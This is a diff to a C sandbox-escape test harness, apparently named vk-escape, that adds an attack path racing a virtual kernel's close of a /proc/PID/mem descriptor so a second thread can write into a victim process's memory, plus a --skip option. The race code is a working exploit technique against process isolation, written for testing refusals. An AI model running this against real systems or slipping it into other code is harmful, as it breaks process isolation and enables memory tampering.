@@ -576,6 +576,58 @@ static long r_open_race(pid_t t)
 	return got ? 0 : -EPERM;
 }
 
+static volatile int share_stop, share_fd = -1, share_won;
+static uint64_t share_addr;
+
+/* a thread writes through the descriptor the open is about to return */
+static void *share_writer(void *arg)
+{
+	uint64_t v = 0xbadbadbadbadULL;
+
+	(void)arg;
+	while (!share_stop)
+		if (pwrite(share_fd, &v, 8, (off_t)share_addr) == 8)
+			share_won = share_stop = 1;
+	return NULL;
+}
+
+/*
+ * The moment between an open of another process's mem and the close
+ * vkernel makes: a thread sharing the descriptor table uses it.  Only at
+ * the victim (its word shows a write).
+ */
+static long r_fd_share_race(pid_t t)
+{
+	char path[64];
+	pthread_t th;
+	int i, fd;
+	long err = -EPERM;
+
+	if (t == vkernel_pid)
+		return NA;
+	snprintf(path, sizeof(path), "/proc/%d/mem", t);
+	fd = open("/dev/null", O_RDONLY); /* the number the open will get */
+	if (fd < 0)
+		return -errno;
+	close(fd);
+	share_fd = fd;
+	share_addr = word_addr_of(t);
+	share_stop = share_won = 0;
+	if (pthread_create(&th, NULL, share_writer, NULL))
+		return -EAGAIN;
+	for (i = 0; i < 2000 && !share_stop; i++) {
+		int m = open(path, O_RDWR);
+
+		if (m >= 0)
+			close(m);
+		else
+			err = -errno; /* the host's or vkernel's refusal */
+	}
+	share_stop = 1;
+	pthread_join(th, NULL);
+	return share_won ? 0 : err;
+}
+
 /* Let the host signal the owner: esc_sig on I/O. */
 static int async_to_owner(int fd)
 {
@@ -1320,6 +1372,7 @@ static const struct road roads[] = {
 	{ "proc_mem_symlink", r_mem_symlink, NULL, 0 },
 	{ "proc_mem_opath", r_mem_opath, NULL, 0 },
 	{ "proc_mem_race", r_open_race, r_mem, 0 },
+	{ "fd_share_race", r_fd_share_race, r_mem, 0 },
 	{ "proc_environ", r_environ, NULL, 0 },
 	{ "proc_maps", r_maps, NULL, 0 },
 	{ "proc_pagemap", r_pagemap, NULL, 0 },
@@ -1463,6 +1516,7 @@ int main(int argc, char **argv)
 	pid_t victim = 0, child;
 	unsigned int i, refused = 0, tried = 0;
 	int only = -1, inside_only = 0;
+	const char *skip_road = NULL;
 
 	self_exe = argv[0];
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -1492,6 +1546,9 @@ int main(int argc, char **argv)
 		} else if (!strcmp(argv[i], "--sig") &&
 			   i + 1 < (unsigned int)argc) {
 			esc_sig = atoi(argv[++i]);
+		} else if (!strcmp(argv[i], "--skip") &&
+			   i + 1 < (unsigned int)argc) {
+			skip_road = argv[++i];
 		} else if (!strcmp(argv[i], "--inside-only")) {
 			inside_only =
 				1; /* natively: the twins, nothing aimed out */
@@ -1507,7 +1564,7 @@ int main(int argc, char **argv)
 					only = (int)k;
 			if (only < 0) {
 				fprintf(stderr,
-					"usage: vk-escape [--victim PID WORD-ADDRESS] [--sig N] [--inside-only] [ROAD] | --list | --victim-mode\n");
+					"usage: vk-escape [--victim PID WORD-ADDRESS] [--sig N] [--inside-only] [--skip ROAD] [ROAD] | --list | --victim-mode\n");
 				return 2;
 			}
 		}
@@ -1521,7 +1578,8 @@ int main(int argc, char **argv)
 		const struct road *r = &roads[i];
 		long vk, vi = NA, in;
 
-		if (only >= 0 && (int)i != only)
+		if ((only >= 0 && (int)i != only) ||
+		    (skip_road && !strcmp(r->name, skip_road)))
 			continue;
 		vk = r->tree_group || inside_only ? NA : r->fn(vkernel_pid);
 		if (victim && !inside_only)
